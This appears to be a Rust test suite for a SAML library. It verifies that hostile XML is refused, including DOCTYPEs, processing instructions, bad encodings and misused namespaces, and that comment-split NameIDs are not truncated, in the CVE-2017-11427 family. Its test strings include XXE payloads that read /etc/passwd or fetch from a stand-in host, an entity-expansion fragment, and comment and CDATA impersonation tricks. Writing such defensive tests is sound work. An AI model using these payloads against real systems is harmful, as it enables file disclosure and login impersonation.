//! Hostile XML: what the pre-scan and the parser must refuse, and texts that must not be cut.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use mainstay_saml::Refusal;
use mainstay_saml::idp::Signed;

use crate::support::*;

#[track_caller]
fn bent(bend: impl Fn(&str) -> String, refusal: Refusal) {
    let lab = Lab::new();
    lab.refuses(&bend(&lab.message(Signed::Both)), refusal);
}

#[test]
fn document_types_of_every_kind() {
    for doctype in [
        "<!DOCTYPE x>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil.test/\"> %p;]>",
        "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]>",
        "<!DOCTYPE x [<!ATTLIST saml:Assertion ID ID \"_x\">]>",
        "<!doctype x>",
        "<!ENTITY x \"y\">",
        "<!NOTATION x PUBLIC \"y\">",
        "<![IGNORE[x]]>",
        "<!>",
    ] {
        bent(|xml| format!("{doctype}{xml}"), Refusal::DoctypeForbidden);
        bent(
            |xml| swap(xml, "<saml:Subject>", &format!("{doctype}<saml:Subject>")),
            Refusal::DoctypeForbidden,
        );
    }
}

#[test]
fn processing_instructions_and_declarations() {
    for first in [
        "<?xml version=\"1.1\"?>",
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>",
        "<?xml version=\"1.0\" encoding=\"UTF-7\"?>",
        "<?xml encoding=\"UTF-8\"?>",
        "<?xml version=\"1.0\" x=\"y\"?>",
        "<?x y?>",
        "<?xml-stylesheet href=\"x\"?>",
        " <?xml version=\"1.0\"?>",
    ] {
        bent(|xml| format!("{first}{xml}"), Refusal::ProcessingInstructionForbidden);
    }
    bent(|xml| swap(xml, USER, "admin<?x?>@example.test"), Refusal::ProcessingInstructionForbidden);
    bent(|xml| format!("{xml}<?x?>"), Refusal::ProcessingInstructionForbidden);
}

#[test]
fn not_well_formed() {
    let mutations: [(&str, &str); 12] = [
        ("</saml:Subject>", ""),
        ("</saml:Subject>", "</saml:subject>"),
        ("</samlp:Response>", ""),
        ("Version=\"2.0\"", "Version=2.0"),
        ("Version=\"2.0\"", "Version"),
        ("Version=\"2.0\"", "Version=\"2.0\" Version=\"2.0\""),
        ("Version=\"2.0\"", "Version=\"2.0"),
        (USER, "&unknown;"),
        (USER, "&#0;"),
        (USER, "&#x1;"),
        (USER, "a\u{1}b"),
        (USER, "<!-- a -- b -->"),
    ];
    for (from, to) in mutations {
        bent(|xml| swap(xml, from, to), Refusal::XmlMalformed);
    }
    bent(|xml| format!("{xml}trailing"), Refusal::XmlMalformed);
    bent(|xml| format!("leading{xml}"), Refusal::XmlMalformed);
    bent(|_| String::from(" "), Refusal::XmlMalformed);
    bent(|xml| swap(xml, USER, "<a"), Refusal::XmlMalformed);
    bent(|xml| swap(xml, USER, "<![CDATA["), Refusal::XmlMalformed);
    bent(|xml| swap(xml, USER, "<!-- "), Refusal::XmlMalformed);
    bent(|xml| swap(xml, "Version=\"2.0\"", "Version=\"<\""), Refusal::XmlMalformed);
    bent(|xml| swap(xml, "Version=\"2.0\"", "Version=\"2.0\"x=\"y\""), Refusal::XmlMalformed);
    bent(|xml| swap(xml, "Version=\"2.0\"", "p:Version=\"2.0\""), Refusal::XmlMalformed);
}

#[test]
fn names_and_declarations() {
    let declare = |declaration: &str| {
        let declaration = format!("<samlp:Response {declaration} ");
        move |xml: &str| swap(xml, "<samlp:Response ", &declaration)
    };
    for declaration in [
        "xmlns:e=\"\"",
        "xmlns:xml=\"urn:x\"",
        "xmlns:xml=\"http://www.w3.org/XML/1998/namespace\"",
        "xmlns:xmlns=\"urn:x\"",
        "xmlns:y=\"http://www.w3.org/2000/xmlns/\"",
        "xmlns:y=\"http://www.w3.org/XML/1998/namespace\"",
        "xmlns=\"http://www.w3.org/2000/xmlns/\"",
        ":x=\"y\"",
        "x:=\"y\"",
        "x:y:z=\"y\"",
        "1x=\"y\"",
        "xmlns:=\"urn:x\"",
    ] {
        bent(declare(declaration), Refusal::NamespaceMisuse);
    }
    bent(|xml| swap(xml, "<saml:Subject>", "<:x/><saml:Subject>"), Refusal::NamespaceMisuse);
    bent(|xml| swap(xml, "<saml:Subject>", "<xmlns:x/><saml:Subject>"), Refusal::NamespaceMisuse);
    bent(|xml| swap(xml, "<saml:Subject>", "< x/><saml:Subject>"), Refusal::NamespaceMisuse);
    bent(declare("xmlns:a=\"urn:a\" xmlns:b=\"urn:a\" a:x=\"1\" b:x=\"2\""), Refusal::XmlMalformed);
    bent(declare("xmlns:samlp=\"urn:x\""), Refusal::XmlMalformed);
}

#[test]
fn encodings() {
    let lab = Lab::new();
    let xml = lab.message(Signed::Both);
    let refusal = |bytes: &[u8]| lab.validate_field(&STANDARD.encode(bytes)).unwrap_err().refusal;
    let utf16: Vec<u8> =
        std::iter::once(0xfeff).chain(xml.encode_utf16()).flat_map(u16::to_le_bytes).collect();
    assert_eq!(refusal(&utf16), Refusal::NotUtf8);
    assert_eq!(refusal(&[xml.as_bytes(), &[0xff]].concat()), Refusal::NotUtf8);
    assert_eq!(refusal(&[&[0xc0, 0xbc][..], xml.as_bytes()].concat()), Refusal::NotUtf8);
    assert_eq!(refusal(format!("\0{xml}").as_bytes()), Refusal::XmlMalformed);
    assert_eq!(refusal(format!("\u{feff}\u{feff}{xml}").as_bytes()), Refusal::XmlMalformed);
}

#[test]
fn fields_that_are_not_base64() {
    let lab = Lab::new();
    let field = STANDARD.encode(lab.message(Signed::Both));
    let url_safe = field.replace('+', "-").replace('/', "_") + "_-";
    for wrong in
        ["", " ", "=", "****", &field[1..], &format!("{field}=="), &url_safe, &field.replacen('A', "%41", 1)]
    {
        assert_eq!(lab.validate_field(wrong).unwrap_err().refusal, Refusal::NotBase64, "{wrong}");
    }
}

/// CVE-2017-11427 and its family: whatever splits a text, the whole of it counts, or the login is refused.
#[test]
fn texts_are_never_cut() {
    let lab = Lab::new();
    let split = [
        "alice@example.test<!-- -->.evil.test",
        "alice@example.test<![CDATA[.evil.test]]>",
        "<![CDATA[alice@example.test]]>.evil.test",
        "alice@example.test&#46;evil.test",
        "<!-- -->alice@example.test<!---->.evil.test",
    ];
    for inner in split {
        let xml = lab.bent(Signed::Assertion, |xml| {
            swap(&xml, &format!("{USER}</saml:NameID>"), &format!("{inner}</saml:NameID>"))
        });
        assert_eq!(lab.accepts(&xml).name_id.value, "alice@example.test.evil.test");
        let xml = lab.bent(Signed::Response, |xml| swap(&xml, ">staff<", &format!(">{inner}<")));
        assert_eq!(lab.accepts(&xml).attribute("groups").next(), Some("alice@example.test.evil.test"));
    }
    // A comment put in afterwards does not break the signature, and changes nothing.
    let xml = lab.message(Signed::Both);
    let after = swap(&xml, USER, "alice<!-- x -->@example.test");
    assert_eq!(lab.accepts(&after).name_id.value, USER);
    for inner in ["alice@example.test<b/>.evil.test", "<b>alice@example.test</b>", "alice<saml:x/>"] {
        let xml = lab.bent(Signed::Assertion, |xml| {
            swap(&xml, &format!("{USER}</saml:NameID>"), &format!("{inner}</saml:NameID>"))
        });
        lab.refuses(&xml, Refusal::NameIdInvalid);
    }
    for (element, refusal) in
        [("Audience", Refusal::AudienceMismatch), ("Issuer", Refusal::AssertionIssuerMissing)]
    {
        let xml = lab.bent(Signed::Assertion, |xml| {
            let at = xml.find("<saml:Assertion").unwrap();
            let (head, tail) = xml.split_at(at);
            format!(
                "{head}{}",
                swap(tail, &format!("</saml:{element}>"), &format!("<b/>evil</saml:{element}>"))
            )
        });
        lab.refuses(&xml, refusal);
    }
    let audience =
        lab.bent(Signed::Assertion, |xml| swap(&xml, "</saml:Audience>", "<!-- -->.evil</saml:Audience>"));
    lab.refuses(&audience, Refusal::AudienceMismatch);
}
